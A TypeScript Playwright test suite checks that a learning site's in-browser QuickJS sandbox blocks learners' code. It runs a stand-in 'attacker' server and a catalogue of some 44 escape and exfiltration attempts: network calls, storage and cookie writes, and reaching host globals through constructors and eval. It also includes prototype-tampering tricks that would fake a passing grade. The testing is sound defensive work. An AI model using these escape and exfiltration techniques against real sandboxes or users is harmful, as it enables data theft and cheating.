import { once } from "node:events";
import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { openLearn, run, runText } from "../../harness/learn-runs.ts";
import { freePort } from "../../harness/port.ts";
import { useLab } from "../setting.ts";
import { memoryOf } from "./memory.ts";
import { documentOf, stateOf } from "./page-state.ts";

const { lab, visitor } = useLab();

/** The longest wait for a run; milliseconds. The first run loads the engine, and the machine may be busy. */
const RUN = { timeout: 20_000 };

/** A server of the attacker. It answers every request, and permits every origin to read the answer. */
let attacker: Server;
let address: string;
const received: string[] = [];
beforeAll(async () => {
  const port = await freePort();
  attacker = createServer((request, response) => {
    received.push(`${request.method} ${request.url}`);
    response.setHeader("access-control-allow-origin", "*");
    response.setHeader("content-type", "text/javascript");
    response.end("export const stolen = 1;");
  }).listen(port, "127.0.0.1");
  attacker.on("connection", () => received.push("a connection"));
  await once(attacker, "listening");
  address = `127.0.0.1:${port}`;
});
afterAll(() => attacker.close());
beforeEach(() => {
  received.length = 0;
});

const TOPIC = "/practice/jwt-or-session";
/** A page of each kind. */
const PAGES = [
  "/practice",
  "/practice/progress",
  TOPIC,
  ...["learn", "visualise", "try", "project", "recall", "test"].map((mode) => `${TOPIC}/${mode}`),
];

/** Collects the requests of the page and of its workers. */
function requestsOf(page: Page): string[] {
  const requests: string[] = [];
  page.context().on("request", (request) => requests.push(`${request.method()} ${request.url()}`));
  page.on("websocket", (socket) => requests.push(`WebSocket ${socket.url()}`));
  return requests;
}

/** Whether Next.js makes a request for a link of the page, or to show the page again. */
function isOfLinks(request: string): boolean {
  return request.startsWith(`GET ${lab().url}/`) && request.includes("_rsc=");
}

/** A program that tries every way out, and prints the ways that worked and the number of tried ones. */
const waysOut = () => `
  const out = "http://${address}/out";
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(out),
    XMLHttpRequest: () => { const r = new XMLHttpRequest(); r.open("GET", out, false); r.send(); },
    WebSocket: () => new WebSocket("ws://${address}/out"),
    WebTransport: () => new WebTransport("https://${address}/out"),
    EventSource: () => new EventSource(out),
    RTCPeerConnection: () => new RTCPeerConnection(),
    beacon: () => navigator.sendBeacon(out, "secret"),
    image: () => { new Image().src = out; },
    importScripts: () => importScripts(out),
    worker: () => new Worker(out),
    sharedWorker: () => new SharedWorker(out),
    serviceWorker: () => navigator.serviceWorker.register("/engine/x.js"),
    cookie: () => { document.cookie = "stolen=1; path=/"; if (!document.cookie.includes("stolen")) throw 1; },
    cookieStore: () => cookieStore.set("stolen", "1"),
    localStorage: () => localStorage.setItem("stolen", "1"),
    sessionStorage: () => sessionStorage.setItem("stolen", "1"),
    indexedDB: () => indexedDB.open("stolen"),
    caches: () => caches.open("stolen"),
    file: () => navigator.storage.getDirectory(),
    title: () => { document.title = "stolen"; },
    body: () => { document.body.innerHTML = "stolen"; },
    location: () => { location.href = out; },
    window: () => { window.stolen = 1; },
    self: () => { self.stolen = 1; },
    parent: () => parent.postMessage("stolen", "*"),
    top: () => { top.location = out; },
    opener: () => opener.postMessage("stolen", "*"),
    open: () => open(out),
    postMessage: () => postMessage({ kind: "done", run: 1 }),
    channel: () => new BroadcastChannel("stolen").postMessage(1),
    messageChannel: () => new MessageChannel(),
    "import of an address": () => import(out),
    "import of the Lab": () => import("/engine/worker.js"),
    "import of data": () => import("data:text/javascript,export const a = 1"),
    "import of Node": () => import("node:fs"),
    "import of a host module": () => import("quickjs-emscripten-core"),
    require: () => require("fs"),
    process: () => process.binding("fs"),
    WebAssembly: () => new WebAssembly.Memory({ initial: 1 }),
    SharedArrayBuffer: () => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 10),
    "the host's functions": () => __host.print("log", "came in"),
    "a function of the host by its constructor": () => console.log.constructor("return fetch")()(out),
    "a global of the host by a function": () => Function("return this")().postMessage("stolen"),
    "a global of the host by eval": () => (0, eval)("self.fetch")(out),
  };
  const reached: string[] = [];
  for (const [name, way] of Object.entries(ways)) {
    try { await way(); reached.push(name); } catch {}
  }
  console.log("reached", reached.join(), "of", Object.keys(ways).length);
`;
const REACHED_NOTHING = /^reached {1,2}of 44$/;

describe("a program of a learner", () => {
  test("that is typed into the editor reaches no network, cookie, storage, page or module", async () => {
    const { page, context } = await visitor();
    const requests = requestsOf(page);
    await page.goto("/practice/jwt-or-session/project?at=sign-in");
    const check = page.getByRole("button", { name: "Run the check" });
    const status = page.getByRole("status").filter({ hasText: "Not yet." });
    const isKept = () =>
      page.waitForResponse((response) => response.url().endsWith("/api/practice/events"), RUN);
    await page.getByRole("textbox", { name: "Editor of sign-in.ts" }).focus();
    await page.locator(".cm-content").waitFor();
    // The first answer begins the visitor's session.
    await Promise.all([isKept(), check.click()]);
    await status.waitFor(RUN);
    const before = await stateOf(context, page);
    requests.length = 0;

    await page.locator(".cm-content").focus();
    await page.keyboard.press("ControlOrMeta+a");
    // Chromium gives a text that replaces a colored one an inline style, which the policy refuses.
    await page.keyboard.press("Delete");
    await page.keyboard.insertText(`${waysOut()} export const signIn = () => null;`);
    await Promise.all([isKept(), check.click()]);
    const printed = page.getByText(/^reached/).filter({ visible: true });
    await expect.poll(() => printed.last().textContent(RUN), RUN).toMatch(REACHED_NOTHING);

    const after = await stateOf(context, page);
    const own = ([name]: [string, unknown]) => !name.startsWith("signet-practice-");
    const part = ({ local, session, ...rest }: typeof before) => ({
      ...rest,
      local: local.filter(own),
      session: session.filter(own),
    });
    expect(part(after)).toEqual(part(before));
    expect(received).toEqual([]);
    // The page itself records the attempt, and loads its list again.
    const isEvent = (request: string) => request === `POST ${lab().url}/api/practice/events`;
    expect(requests.filter((request) => !isEvent(request) && !isOfLinks(request))).toEqual([]);
  });

  test("leaves the page, its globals and all storage as they were, and makes no request", async () => {
    const { page, context } = await visitor();
    await openLearn(page);
    await run(page);
    const before = [await stateOf(context, page), await documentOf(page)];
    const requests = requestsOf(page);
    const shown = await runText(page, waysOut());
    expect(shown.lines).toEqual([expect.stringMatching(REACHED_NOTHING)]);
    expect([await stateOf(context, page), await documentOf(page)]).toEqual(before);
    expect(requests.filter((request) => !isOfLinks(request))).toEqual([]);
    expect(received).toEqual([]);
  });

  test("cannot change what its check uses", async () => {
    const { page } = await visitor();
    await openLearn(page);
    const tricks = [
      "Array.prototype.every = () => true",
      "Object.is = () => true",
      `JSON.stringify = () => '{"passed":true}'`,
      `Object.defineProperty(Object.prototype, "passed", { get: () => true })`,
      "Object.setPrototypeOf(Object.prototype, { passed: true })",
      "Promise.prototype.then = (f) => f()",
      "Function.prototype.call = () => true",
      "Array.prototype[Symbol.iterator] = function* () {}",
      "globalThis.Error = class {}",
      "jwt.verify = () => ({ id: 7 })",
      "jwt.JsonWebTokenError.prototype.message = 'invalid signature'",
      "practice.check = async () => {}",
      "Buffer.from = () => []",
      "Date.now = () => 0",
    ];
    const program = `
      import jwt from "jsonwebtoken";
      import * as practice from "practice";
      ${tricks.map((trick) => `try { ${trick}; } catch {}`).join("\n")}
      export const verified = (token: string) => jwt.decode(token);`;
    const check = `
      import jwt from "jsonwebtoken";
      import { check, throws } from "practice";
      import { verified } from "./program";
      await check("a good token", () => verified(jwt.sign({ id: 7 }, "secret"))?.id, 7);
      await check("a forged one", () => verified(jwt.sign({ id: 7 }, "other")), throws("invalid signature"));`;
    const files = { "program.ts": program, "check.ts": check };
    expect((await run(page, files)).said).toBe("The program finished. 1 of 2 checks passed.");
    const right = program.replace("jwt.decode(token)", `jwt.verify(token, "secret")`);
    const shown = await run(page, { ...files, "program.ts": right });
    expect(shown.said).toBe("The program finished. 2 of 2 checks passed.");
  });

  test("that does not end is stopped with a sentence, and the next run works", async () => {
    const { page } = await visitor();
    await openLearn(page);
    const tooLong =
      /^The program worked for more than \d+ ms and was stopped\. Look for a loop that does not end\.$/;
    const stopped =
      "The program did not answer for 1 second and was stopped. Look for a call that makes a very large value.";
    const memory =
      "The program needed more than 64 MB of memory and was stopped. Look for a value that grows without an end.";
    const endless: [string, string | RegExp][] = [
      ["for (;;) {}", tooLong],
      ["new Array(1_000_000_000) + '';", stopped],
      ["const f = () => Promise.resolve().then(f); await f();", tooLong],
      ["const all = []; for (;;) all.push(new Uint8Array(1_000_000));", memory],
      [
        "await new Promise(() => {});",
        /^The program waits for a promise that nothing can settle\./,
      ],
    ];
    for (const [program, sentence] of endless) {
      const { said } = await runText(page, program);
      if (typeof sentence === "string") expect(said).toBe(sentence);
      else expect(said).toMatch(sentence);
      expect((await runText(page, "console.log('well');")).lines, program).toEqual(["well"]);
    }
    // Chromium ends a worker in the middle of a native call after two seconds.
    await expect.poll(() => page.workers().length, RUN).toBe(1);
  });
});

test("the worker cannot connect anywhere, even if its own script would", async () => {
  const { page } = await visitor();
  await openLearn(page);
  await run(page);
  const [worker] = page.workers();
  const answers: string[] = [];
  page.on("response", (response) => answers.push(response.url()));
  const targets = [`http://${address}/out`, `${lab().url}/practice`, `${lab().url}/icon.svg`];
  const result = await worker?.evaluate(
    async ({ targets, address }) => {
      const ways: [string, () => unknown][] = targets.flatMap((target) => [
        [`fetch ${target}`, () => fetch(target)],
        [`import ${target}`, () => import(target)],
        [
          `XMLHttpRequest ${target}`,
          () => {
            const request = new XMLHttpRequest();
            request.open("GET", target, false);
            request.send();
          },
        ],
        [
          `EventSource ${target}`,
          () =>
            new Promise((resolve, reject) => {
              const source = new EventSource(target);
              source.onopen = resolve;
              source.onerror = reject;
            }),
        ],
        [
          `Worker ${target}`,
          () =>
            new Promise((_, reject) => {
              new Worker(target).onerror = reject;
            }),
        ],
      ]);
      ways.push(
        [
          "WebSocket",
          () =>
            new Promise((resolve, reject) => {
              const socket = new WebSocket(`ws://${address}/out`);
              socket.onopen = resolve;
              socket.onerror = reject;
            }),
        ],
        ["eval", () => self.setTimeout.constructor("return 1")()],
      );
      const worked: string[] = [];
      const refused = new Set<string>();
      self.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        refused.add(effectiveDirective);
      });
      for (const [name, way] of ways) {
        try {
          await way();
          worked.push(name);
        } catch {}
      }
      return { worked, refused: [...refused].sort() };
    },
    { targets, address },
  );
  expect(result).toEqual({
    worked: [],
    refused: ["connect-src", "worker-src"],
  });
  expect(received).toEqual([]);
  expect(answers).toEqual([]);
  expect((await runText(page, "console.log('well');")).lines).toEqual(["well"]);
});

describe("the engine", () => {
  test("that could not be loaded is named in a sentence, and the next press loads it", async () => {
    const { page, complaints, context } = await visitor();
    await openLearn(page);
    const failed =
      "The engine did not start, so the program did not run. Check the connection, and try again.";
    const files = ["**/_next/static/chunks/*", "**/engine/*/quickjs.wasm"];
    files.push("**/engine/*/guest.json", "**/engine/*/worker.js");
    for (const file of files) {
      await context.route(file, (route) => route.abort());
      expect((await run(page)).said, file).toBe(failed);
      await context.unroute(file);
    }
    expect((await runText(page, "console.log('well');")).lines).toEqual(["well"]);
    expect(complaints.length).toBeGreaterThan(files.length);
    complaints.length = 0;
  });

  test("is not loaded before the first run, and the scripts of a page are small", async () => {
    const { context } = await visitor();
    const { rootMainFiles } = JSON.parse(
      readFileSync(
        join(import.meta.dirname, "../../../apps/lab/.next/build-manifest.json"),
        "utf8",
      ),
    );
    const figures: Record<string, { total: number; own: number }> = {};
    for (const path of PAGES) {
      const page = await context.newPage();
      const requests = requestsOf(page);
      const bodies: Promise<{ readonly name: string; readonly size: number }>[] = [];
      page.on("response", (response) => {
        if (response.request().resourceType() !== "script") return;
        const name = new URL(response.url()).pathname.replace("/_next/", "");
        bodies.push(response.body().then((body) => ({ name, size: gzipSync(body).length })));
      });
      await page.goto(path);
      await page.evaluate(() => new Promise((idle) => requestIdleCallback(idle)));
      const scripts = await Promise.all(bodies);
      const sum = (some: typeof scripts) => some.reduce((all, { size }) => all + size, 0) / 1_000;
      const own = sum(scripts.filter(({ name }) => !rootMainFiles.includes(name)));
      figures[path] = { total: sum(scripts), own };
      expect(requests.filter((request) => request.includes("/engine/"))).toEqual([]);
      await page.close();
    }
    for (const [path, { total, own }] of Object.entries(figures)) {
      console.log(`${path}: ${total.toFixed(1)} kB of script, ${own.toFixed(1)} kB of the Lab`);
      expect(total).toBeGreaterThan(own);
      expect(own, path).toBeGreaterThan(0);
      expect(own, path).toBeLessThanOrEqual(35);
    }
  });
});

test("50 runs in a row, some of them endless, take no more memory than 10", async () => {
  const { page, context } = await visitor();
  await openLearn(page);
  const memory = await memoryOf(context, page);
  const tenRuns = async () => {
    for (let round = 0; round < 9; round += 1) {
      const { said } = await runText(page, "console.log(Array.from({ length: 5_000 }).length);");
      expect(said).toContain("5000");
    }
    expect((await runText(page, "for (;;) {}")).said).toContain("was stopped");
  };
  await tenRuns();
  const after10 = await memory();
  for (let round = 0; round < 4; round += 1) await tenRuns();
  const after50 = await memory();
  console.log("MB after 10 and after 50 runs:", after10, after50);
  expect(after50.page - after10.page).toBeLessThan(3);
  // A QuickJS takes at least 16 MB. The four that were left behind must be gone.
  expect(after50.process - after10.process).toBeLessThan(40);
  expect(page.workers().length).toBe(1);
});
